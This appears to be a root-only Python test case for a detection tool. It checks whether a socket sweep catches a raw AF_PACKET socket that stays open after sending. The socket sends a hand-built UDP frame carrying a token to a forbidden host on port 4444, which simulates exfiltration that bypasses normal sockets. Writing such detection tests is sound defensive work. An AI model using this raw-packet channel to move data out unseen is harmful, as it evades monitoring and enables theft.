#!/usr/bin/python3
# id: b06c_packet_linger
# title: AF_PACKET socket that stays open for three seconds after it sent
# needs: root
# expect: detect
# why: a sweep of sockets must find what lives this long
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(('v0', 0)); s.setsockopt(263, 20, 1); s.send(b'\xff' * 6 + b'\2' * 6 + b'\x08\0' + ip4(myip(), FORB, 17, udp4(myip(), FORB, 4444, P_UDP, TOK.encode()))); time.sleep(3)
attempt(f, chan=('udp', 'pkt'))
